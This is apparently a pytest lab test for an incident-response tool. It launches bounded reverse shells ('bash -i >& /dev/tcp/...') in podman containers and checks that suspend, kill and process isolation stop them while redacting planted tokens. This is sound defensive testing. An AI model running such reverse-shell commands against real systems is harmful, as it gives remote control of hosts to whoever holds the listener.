"""`harden respond` on live lab reverse shells: suspend, kill and isolate-process.

Each shell is ``bash -i >& /dev/tcp/198.18.0.1/PORT`` in a lab podman container, calling back to a
listener of this test (bounded: a few connections, closed on exit). The response runs against the
container's host (``ansible_connection=local``, as root): inside the container the cgroup file
system is read-only and there is no cgroup v2 mount (measured), so isolate-process is done where
the cgroup can be made, and the nft rules go into the container's network namespace (nsenter),
never into this machine's. The same isolate over SSH inside the container is refused on the host
(another pid namespace), which the last test checks.

Every process started is killed by pid; every listener closes within its lifetime.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))
import hunt_scenarios as hs
from labutil import harden_cli, private_lab

pytestmark = pytest.mark.lab
BIN = Path(sys.executable).parent
GATEWAY = "198.18.0.1"


@pytest.fixture(scope="module")
def rlab(lab, tmp_path_factory):  # `lab` first: root, podman and the shared network exist
    with private_lab(tmp_path_factory, ("default",), "r21") as up:
        yield up


def harden(*args: object, timeout: float = 240):
    return harden_cli(*args, timeout=timeout)


class Callback(hs.Listener):
    """The lab listener (bounded: up to 8 connections, closed after ``lifetime`` or on exit) that
    also waits for the Nth connection."""

    def __init__(self, lifetime: float = 120.0) -> None:
        super().__init__(lifetime, max_conns=8)

    def wait(self, count: int, timeout: float = 10.0) -> socket.socket:
        end = time.monotonic() + timeout
        while len(self.conns) < count and time.monotonic() < end:
            time.sleep(0.1)
        assert len(self.conns) >= count, f"{len(self.conns)} connections, wanted {count}"
        return self.conns[count - 1]


def ask(conn: socket.socket, wait: float = 4.0) -> str:
    """Send a command over the shell's connection; what came back within ``wait`` seconds
    ("EOF" when the peer closed, "RESET" when it reset)."""
    token = secrets.token_hex(4)
    try:
        conn.sendall(f"echo R21-$((0x{token}))\n".encode())
    except OSError:
        return "RESET"
    want = f"R21-{int(token, 16)}"
    got = b""
    end = time.monotonic() + wait
    conn.settimeout(0.2)
    while time.monotonic() < end:
        try:
            chunk = conn.recv(4096)
        except TimeoutError:
            continue
        except ConnectionResetError:
            return "RESET"
        if not chunk:
            return "EOF" + (" (answered)" if want in got.decode(errors="replace") else "")
        got += chunk
        if want.encode() in got:
            return "answered"
    return "no answer"


def start_shell(container: str, port: int, tag: str, env: dict[str, str]) -> None:
    argv = ["podman", "exec", "-d", "-e", f"HUNT_SCENARIO={tag}"]
    for k, v in env.items():
        argv += ["-e", f"{k}={v}"]
    cmd = f"exec bash -c 'exec bash -i >& /dev/tcp/{GATEWAY}/{port} 0>&1'"
    subprocess.run([*argv, container, "sh", "-c", cmd], check=True, capture_output=True, timeout=30)


def host_pids(cid: str, tag: str) -> set[int]:
    return hs.host_scenario_pids(cid).get(int(tag), set())


def incident_of(hunt_json: Path, pids: set[int]) -> dict:
    doc = json.loads(hunt_json.read_text())
    (h,) = doc["hosts"]
    found = [i for i in h["incidents"] if {p["pid"] for p in i["processes"]} & pids]
    assert len(found) == 1, (pids, [(i["id"], i["tree"]) for i in h["incidents"]])
    return found[0]


def _kill(pids: set[int]) -> None:
    for p in pids:
        with contextlib.suppress(OSError):
            os.kill(p, 9)


def _remove_isolation_cgroup(records: Path) -> None:
    """After a failed test: kill what is left in an isolation cgroup and remove it (else the container's
    own cgroup could not be removed with the lab)."""
    for rec in records.glob("*/isolation.json"):
        cg = Path(json.loads(rec.read_text())["cgroup_dir"])
        if not cg.name.startswith("harden-isolate-") or not cg.is_dir():
            continue
        _kill({int(p) for p in (cg / "cgroup.procs").read_text().split()})
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                cg.rmdir()
                break
            except OSError:
                time.sleep(0.1)


def _no_secret(root: Path, *values: str) -> None:
    for f in root.rglob("*"):
        if f.is_file():
            data = f.read_bytes()
            for v in values:
                assert v.encode() not in data, f"secret in {f}"


@pytest.fixture
def setup(rlab, tmp_path):
    host = rlab.host("default")
    c = host.container
    route = hs.sh(c, f"ip route get {GATEWAY}")
    assert " dev eth0 " in route, route  # the callbacks go over the lab bridge
    cid = hs.podman("inspect", "-f", "{{.Id}}", c).stdout.strip()
    inv = tmp_path / "local.ini"
    inv.write_text("[here]\nthis-machine ansible_connection=local ansible_become=false\n")
    return c, cid, inv


def _start_and_hunt(c, cid, inv, cb, tag, out, env):
    start_shell(c, cb.port, tag, env)
    conn = cb.wait(1)
    assert ask(conn) == "answered"
    pids = host_pids(cid, tag)
    assert pids
    r = harden("hunt", inv, "--out", out, "--timeout", "60")
    assert r.returncode == 1, r.stderr[-2000:]
    return conn, pids, incident_of(out / "hunt.json", pids)


@pytest.mark.parametrize("action", ["suspend", "kill"])
def test_suspend_and_kill_stop_the_live_shell(setup, tmp_path, action):
    c, cid, inv = setup
    secret, password = secrets.token_hex(12), secrets.token_hex(12)
    env = {"API_TOKEN": f"tok-{secret}", "DATABASE_URL": f"postgres://app:{password}@db.example/app"}
    tag = "101"
    pids: set[int] = set()
    with Callback() as cb:
        try:
            conn, pids, inc = _start_and_hunt(c, cid, inv, cb, tag, tmp_path, env)
            r = harden("respond", inv, "this-machine", "--incident", inc["id"], "--action", action, "--out", tmp_path)
            assert r.returncode == 2 and "no terminal" in r.stderr, r.stderr[-2000:]  # no --yes, no terminal
            started = time.monotonic()
            r = harden(
                "respond", inv, "this-machine", "--incident", inc["id"], "--action", action, "--yes",
                "--out", tmp_path,
            )  # fmt: skip
            took = time.monotonic() - started
            assert r.returncode == 0, r.stdout + r.stderr[-3000:]
            seen = ask(conn)
            if action == "suspend":
                assert seen == "no answer", seen
                # the pids are the host's: read their states here
                states = {p: Path(f"/proc/{p}/stat").read_text().rsplit(") ", 1)[1].split()[0] for p in pids}
                assert set(states.values()) == {"T"}, states
            else:
                assert seen in ("EOF", "RESET"), seen
                alive = {p for p in pids if Path(f"/proc/{p}").exists()}
                assert not alive, alive
        finally:
            _kill(pids)
    log = [json.loads(line) for line in (tmp_path / "respond" / "actions.jsonl").read_text().splitlines()]
    assert [e["result"] for e in log][-1] == "done", log[-1]
    assert log[0]["result"].startswith("refused: not confirmed")
    last = log[-1]
    assert last["local_user"] and last["host"] == "this-machine" and last["action"] == action
    assert set(last["pids"]) >= pids & {p["pid"] for p in inc["processes"]}
    ev = Path(last["evidence"])
    manifest = json.loads((ev / "manifest.json").read_text())
    for f in manifest["files"]:
        assert hashlib.sha256((ev / f["path"]).read_bytes()).hexdigest() == f["sha256"], f
    shell = next(p["pid"] for p in manifest["processes"] if p["verdict"] == "ok")
    environ = (ev / "processes" / str(shell) / "environ.txt").read_text()
    assert "API_TOKEN=********" in environ and "HUNT_SCENARIO=101" in environ, environ
    assert any(f["path"].startswith("exe/") for f in manifest["files"]), manifest["notes"]
    assert "tcp" in (ev / "processes" / str(shell) / "sockets.txt").read_text() or manifest["flows"]
    _no_secret(tmp_path, secret, password)
    print(f"respond {action}: {took:.1f} s (verify hunt, evidence, action, hunt after)")


def test_isolate_process_blocks_only_the_shell_and_undo_removes_it(setup, tmp_path):
    c, cid, inv = setup
    secret = secrets.token_hex(12)
    tag = "201"
    pids: set[int] = set()
    helper = None
    with Callback() as cb:
        try:
            conn, pids, inc = _start_and_hunt(c, cid, inv, cb, tag, tmp_path, {"GITHUB_TOKEN": f"ghp_{secret}"})
            r = harden(
                "respond", inv, "this-machine", "--incident", inc["id"], "--action", "isolate-process", "--yes",
                "--out", tmp_path,
            )  # fmt: skip
            assert r.returncode == 0, r.stdout + r.stderr[-3000:]
            seen = ask(conn)
            assert seen in ("no answer", "RESET", "EOF"), f"the isolated shell still answers: {seen}"
            print(f"isolate: the listener saw {seen!r}; {r.stdout}")
            # an unrelated process of the same container still connects out
            hs.podman("exec", c, "bash", "-c", f"exec 3<>/dev/tcp/{GATEWAY}/{cb.port} && echo unrelated >&3 && sleep 1")
            other = cb.wait(2)  # the shell's connection is the first
            other.settimeout(3)
            assert other.recv(100).startswith(b"unrelated")
            # a new process put in the isolation cgroup cannot connect out
            record = json.loads((tmp_path / "respond" / "this-machine" / inc["id"] / "isolation.json").read_text())
            cg = Path(record["cgroup_dir"])
            assert cg.is_dir() and cg.name == f"harden-isolate-{inc['id'][2:]}"
            before = len(cb.conns)
            helper = subprocess.Popen(
                ["podman", "exec", c, "timeout", "8", "bash", "-c",
                 f"sleep 2; exec 3<>/dev/tcp/{GATEWAY}/{cb.port} && echo blocked-one >&3"],
            )  # fmt: skip
            time.sleep(1.0)
            sleepers = [
                int(line.split()[0])
                for line in subprocess.run(
                    ["pgrep", "-a", "-f", "blocked-one"], capture_output=True, text=True
                ).stdout.splitlines()
                if "bash -c" in line and "podman" not in line and "timeout" not in line
            ]
            assert sleepers, "the helper shell was not found"
            for p in sleepers:
                (cg / "cgroup.procs").write_text(f"{p}\n")
            time.sleep(4)
            assert len(cb.conns) == before, "a process in the isolation cgroup connected out"
            rules = hs.sh(c, "nft list table inet harden_respond")
            assert "socket cgroupv2" in rules and "drop" in rules, rules
            host_tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
            assert "harden_respond" not in host_tables  # never this machine's own firewall
            # undo: the chains, the table and the cgroup go
            r = harden("respond", inv, "this-machine", "--undo-isolate", inc["id"], "--yes", "--out", tmp_path)
            assert r.returncode == 0, r.stdout + r.stderr[-2000:]
            assert "harden_respond" not in hs.sh(c, "nft list tables"), r.stdout
            assert not cg.exists()
        finally:
            if helper is not None:
                helper.kill()
                helper.wait(timeout=10)
            _kill(pids)
            _remove_isolation_cgroup(tmp_path / "respond" / "this-machine")
    log = [json.loads(line) for line in (tmp_path / "respond" / "actions.jsonl").read_text().splitlines()]
    assert [e["action"] for e in log] == ["isolate-process", "undo-isolate"], log
    assert log[0]["result"] == "done" and log[0]["isolation"]["sharing"] != "0", log[0]
    _no_secret(tmp_path, secret)


def test_isolate_inside_the_container_is_refused_on_the_host(rlab, tmp_path):
    """Over SSH inside the container (its own pid namespace, no cgroup v2 mount, read-only cgroup fs):
    isolate-process is refused with the reason and nothing is changed."""
    c = rlab.host("default").container
    tag = "301"
    with Callback() as cb:
        try:
            start_shell(c, cb.port, tag, {})
            conn = cb.wait(1)
            r = harden("hunt", rlab.inventory, "--out", tmp_path, "--timeout", "60")
            assert r.returncode == 1, r.stderr[-2000:]
            inside = hs.scenario_pids(c).get(int(tag), set())
            inc = incident_of(tmp_path / "hunt.json", inside)
            r = harden(
                "respond", rlab.inventory, "default", "--incident", inc["id"], "--action", "isolate-process",
                "--yes", "--out", tmp_path,
            )  # fmt: skip
            assert r.returncode == 1, r.stdout + r.stderr[-2000:]
            assert "initial pid namespace" in r.stderr, r.stderr[-2000:]
            assert ask(conn) == "answered"  # nothing changed
            assert "harden_respond" not in hs.sh(c, "nft list tables")
        finally:
            hs.kill(c, hs.scenario_pids(c).get(int(tag), set()))
